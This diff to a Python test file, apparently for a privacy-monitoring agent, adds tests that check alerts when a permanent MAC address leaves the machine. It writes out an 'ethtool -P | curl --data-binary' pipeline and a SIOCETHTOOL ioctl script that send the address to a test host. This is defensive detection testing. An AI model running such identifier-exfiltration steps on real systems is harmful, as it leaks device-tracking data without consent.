@@ -52,7 +52,30 @@ def interface_with_a_permanent_address():
 
 
 def test_permanent_mac_from_ethtool_piped_to_curl(host):
-    """`ethtool -P` asks SIOCETHTOOL/ETHTOOL_GPERMADDR; its output piped to curl is the leak."""
+    """`ethtool -P` (6.x asks rtnetlink for IFLA_PERM_ADDRESS; older ones SIOCETHTOOL) piped to
+    curl."""
+    iface, addr = interface_with_a_permanent_address()
+    if not iface:
+        print("  skipped: no interface here reports a permanent address (veth and dummy do not)")
+        return
+    policy = """version: 1
+identifiers:
+  - name: mac-address
+    ioctls: [SIOCETHTOOL]
+    netlink: [RTM_GETLINK]
+""" + RULE
+    with Agent(policy_text=policy) as agent:
+        r = subprocess.run(["sh", "-c", "ethtool -P %s | curl -s -o /dev/null --max-time 5 "
+                            "--data-binary @- http://%s:8080/perm" % (iface, host.addr)],
+                           capture_output=True, timeout=30)
+        expect_eq(0, r.returncode, "the pipeline's status")
+        a = agent.wait_alert(process__comm="curl")
+    expect_eq("confirmed", a["confidence"], "confidence")
+    expect_eq(["mac-address"], [i["name"] for i in a["identifiers"]], "identifiers")
+
+
+def test_permanent_mac_by_the_siocethtool_ioctl(host):
+    """ETHTOOL_GPERMADDR through SIOCETHTOOL, as ethtool before netlink and libraries ask it."""
     iface, addr = interface_with_a_permanent_address()
     if not iface:
         print("  skipped: no interface here reports a permanent address (veth and dummy do not)")
@@ -62,13 +85,21 @@ identifiers:
   - name: mac-address
     ioctls: [SIOCETHTOOL]
 """ + RULE
+    code = """
+import ctypes, fcntl, socket, struct, sys
+perm = ctypes.create_string_buffer(struct.pack("II", 0x20, 32) + bytes(32))
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+fcntl.ioctl(s.fileno(), 0x8946, struct.pack("16sP16x", sys.argv[2].encode(), ctypes.addressof(perm)))
+size = struct.unpack("I", perm.raw[4:8])[0]
+mac = ":".join("%02x" % b for b in perm.raw[8:8 + size])
+c = socket.create_connection((sys.argv[1], 9000), timeout=5)
+c.sendall(("perm=" + mac).encode())
+print(mac)
+"""
     with Agent(policy_text=policy) as agent:
-        r = subprocess.run(["sh", "-c", "ethtool -P %s | curl -s -o /dev/null --max-time 5 "
-                            "--data-binary @- http://%s:8080/perm" % (iface, host.addr)],
-                           capture_output=True, timeout=30)
-        expect_eq(0, r.returncode, "the pipeline's status")
-        a = agent.wait_alert(process__comm="curl")
-    expect_eq("confirmed", a["confidence"], "confidence")
+        pid, out = run_py(code, host.addr, iface)
+        a = confirmed(agent, pid, "mac-address")
+    expect_eq(addr.lower(), out.strip(), "the address the ioctl gave")
     expect_eq("ioctl", a["identifiers"][0]["source"], "identifiers[].source")
     expect_eq("SIOCETHTOOL ETHTOOL_GPERMADDR", a["identifiers"][0]["path"], "where the value came from")
 
